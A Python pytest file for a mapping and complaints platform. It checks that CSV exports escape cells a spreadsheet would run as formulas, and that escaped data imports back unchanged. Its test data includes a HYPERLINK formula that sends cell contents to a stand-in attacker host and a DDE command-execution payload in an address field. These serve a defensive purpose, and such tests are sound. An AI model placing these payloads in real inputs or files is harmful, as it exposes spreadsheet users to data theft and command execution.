"""CSV formula injection (issue 16, item 2): no CSV the platform writes has a text cell a spreadsheet runs.

A spreadsheet reads a CSV cell as a formula when its text begins with =, +, -, @,
a tab or a carriage return; the files are read here with the csv module, cell
by cell, exactly as a spreadsheet splits them, and each text cell is checked.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import text

from layers import export_layer, import_file, insert_features, read_layer
from layers.csvcells import TRIGGERS

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+62 812 1234", "-1+1", "@SUM(A1:A9)",
            "\t=2+2", "\r=3+3", "'=already quoted", "'plain apostrophe", "biasa saja"]


def _cells(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data, newline="")))


def _formula_cells(rows: list[dict[str, str]], columns: list[str]) -> list[str]:
    return [r[c] for r in rows for c in columns if r[c] and r[c].startswith(TRIGGERS)]


def test_exported_text_cells_are_never_formulas_and_import_back_unchanged(conn, tmp_path: Path) -> None:  # noqa: ANN001
    features = [{"type": "Feature", "geometry": {"type": "Point", "coordinates": [98.65 + i * 1e-4, 3.58]},
                 "properties": {"kode": payload, "kategori": "a", "nilai": -2.5}}
                for i, payload in enumerate(PAYLOADS)]
    insert_features(conn, "sample_points", features, actor="test")
    stored = sorted(read_layer(conn, "sample_points", where={"kategori": "a", "nilai": -2.5})["kode"])
    path = tmp_path / "points.csv"
    export_layer(conn, "sample_points", path, where={"kategori": "a", "nilai": -2.5})
    rows = _cells(path.read_text(encoding="utf-8"))
    assert len(rows) == len(PAYLOADS)
    assert _formula_cells(rows, ["kode", "kategori", "source"]) == []
    assert {r["nilai"] for r in rows} == {"-2.5"}  # a number stays a number
    assert {r["kode"] for r in rows} >= {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "''=already quoted",
                                          "'plain apostrophe", "biasa saja"}
    conn.execute(text("DELETE FROM layers.sample_points WHERE kategori = 'a' AND nilai = -2.5"))
    import_file(conn, "sample_points", path, actor="test", mode="append")
    again = read_layer(conn, "sample_points", where={"kategori": "a", "nilai": -2.5})
    assert sorted(again["kode"]) == stored


@pytest.fixture
def site(complaints_app: Flask):  # noqa: ANN201
    return complaints_app.test_client()


def test_a_citizens_formula_does_not_reach_the_staff_csv_as_a_formula(
        complaints_app: Flask, site, staff_token: Callable[..., str]) -> None:  # noqa: ANN001
    filed = site.post("/open311/v2/requests.json", data={
        "service_code": "SAMPAH", "lat": "3.5952", "long": "98.6722", "attribute[HARI_TIDAK_DIANGKUT]": "2",
        "description": PAYLOADS[0], "address_string": "@cmd|' /C calc'!A0", "first_name": "=1+1"})
    assert filed.status_code in (200, 201), filed.get_data(as_text=True)
    admin = staff_token("admin")
    download = site.get("/katalog/complaints.csv", headers={"Authorization": f"Bearer {admin}"})
    assert download.status_code == 200
    rows = _cells(download.get_data(as_text=True))
    text_columns = [c for c in rows[0] if c not in ("supporters", "device_distance_m", "wkt")]
    assert _formula_cells(rows, text_columns) == []
    filed_row = next(r for r in rows if r["description"].endswith("\"klik\")"))
    assert filed_row["description"] == "'" + PAYLOADS[0]
    assert filed_row["contact_name"] == "'=1+1"
